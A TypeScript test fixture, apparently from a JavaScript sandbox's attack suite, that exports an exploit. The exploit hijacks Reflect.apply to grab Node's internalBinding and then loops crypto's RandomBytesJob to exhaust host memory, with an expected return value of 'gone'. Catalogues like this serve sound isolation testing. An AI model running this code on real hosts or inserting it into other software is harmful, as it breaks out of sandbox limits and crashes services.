import type { Attack } from '../attack.ts';

export const attack: Attack = {
  name: 'has the host make gigabytes that it has no room for',
  target: 'memory',
  code: `
    let internalBinding = () => ({ RandomBytesJob: class { run() {} } });
    const real = Reflect.apply;
    Reflect.apply = (target, self, args) => {
      if (args.length === 6 && typeof args[4] === 'function') internalBinding = args[4];
      return real(target, self, args);
    };
    module.exports = () => {
      require('crypto');
      const { RandomBytesJob } = internalBinding('crypto');
      for (let i = 0; i < 1000; i += 1) new RandomBytesJob(0, new Uint8Array(1), 0, 4e6).run();
      return 'gone';
    };`,
  expectation: { returns: 'gone' },
};
